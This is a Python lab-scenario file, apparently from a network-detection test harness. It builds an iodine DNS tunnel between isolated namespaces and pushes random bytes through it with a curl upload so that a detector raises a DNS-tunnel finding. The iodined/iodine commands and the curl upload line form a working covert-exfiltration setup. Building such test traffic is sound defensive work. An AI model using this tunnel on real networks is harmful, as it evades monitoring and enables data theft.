"""A DNS tunnel with iodine: iodined behind the lab's resolver (which forwards the tunnel's domain to it), the
iodine client in a VMN, and data pushed through the tunnel over HTTP."""

from __future__ import annotations

import contextlib
import ipaddress
import secrets
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import ClassVar

from vmshadow.domain.finding import FindingKind
from vmshadow.lab.scenarios.base import Expectation, NamespaceProcesses, Scenario, pause, tcp_open, wait_until
from vmshadow.lab.scenarios.beacon import OTHER_TARGET_S
from vmshadow.lab.scenarios.servers import http_server
from vmshadow.lab.scenarios.services import TUNNEL_DOMAIN, TUNNEL_SERVER_PORT, UPLOAD_PORT
from vmshadow.lab.state import LabHost

TUNNEL_NETWORK = ipaddress.IPv4Network("198.19.53.0/27")  # inside the lab's 198.18.0.0/15, not on the bridge
TUNNEL_SERVER_IP = str(TUNNEL_NETWORK[1])
TUNNEL_UP_TIMEOUT_S = 30.0


@dataclass
class IodineTunnel(Scenario):
    """iodine (raw mode off, so every byte goes through DNS queries) from `client` via the resolver on `dns`;
    once the tunnel is up, `push_bytes` are uploaded through it, then it idles for `linger_s`."""

    client: LabHost
    dns: LabHost
    push_bytes: int = 64 * 1024
    linger_s: float = 5.0
    name: ClassVar[str] = "iodine_tunnel"
    max_s: float = 90.0
    _password: str = field(init=False, repr=False, default_factory=lambda: secrets.token_hex(8))

    @property
    def expected(self) -> Expectation:
        return Expectation(FindingKind.DNS_TUNNEL, self.client.name, OTHER_TARGET_S, deny=False)

    @contextlib.contextmanager
    def prepared(self) -> Iterator[None]:
        with NamespaceProcesses() as procs, contextlib.ExitStack() as servers:
            procs.start(self.dns.namespace, [
                "iodined", "-f", "-c", "-l", "127.0.0.1", "-p", str(TUNNEL_SERVER_PORT), "-P", self._password,
                f"{TUNNEL_SERVER_IP}/{TUNNEL_NETWORK.prefixlen}", TUNNEL_DOMAIN,
            ])  # fmt: skip

            def serve() -> bool:  # the server address exists once iodined has made its tun device
                try:
                    servers.enter_context(http_server(self.dns.namespace, TUNNEL_SERVER_IP, UPLOAD_PORT))
                except OSError:
                    return False
                return True

            wait_until(serve, timeout_s=10, what="iodined's tunnel address in the DNS host")
            yield

    def drive(self, stop: threading.Event) -> None:
        deadline = time.monotonic() + self.max_s
        with NamespaceProcesses() as procs:
            procs.start(self.client.namespace, [
                "iodine", "-f", "-r", "-P", self._password, str(self.dns.address.ip), TUNNEL_DOMAIN,
            ])  # fmt: skip
            try:
                wait_until(
                    lambda: stop.is_set() or tcp_open(self.client.namespace, TUNNEL_SERVER_IP, UPLOAD_PORT, 1.0),
                    timeout_s=TUNNEL_UP_TIMEOUT_S, what="the iodine tunnel up", every_s=0.5,
                )  # fmt: skip
            except TimeoutError as exc:
                self.outcome = str(exc)
                return
            if stop.is_set():
                return
            self.outcome = f"tunnel up after {self.max_s - (deadline - time.monotonic()):.1f} s"
            left = max(1.0, deadline - time.monotonic() - self.linger_s)
            script = f"head -c {self.push_bytes} /dev/urandom | curl -s -o /dev/null -m {int(left)} -T - " + (
                f"http://{TUNNEL_SERVER_IP}:{UPLOAD_PORT}/drop"
            )
            rc = procs.run(self.client.namespace, ["sh", "-c", script], timeout_s=left + 2)
            self.outcome += f", {self.push_bytes} bytes pushed through it (curl exit {rc})"
            pause(stop, min(self.linger_s, max(0.0, deadline - time.monotonic())))
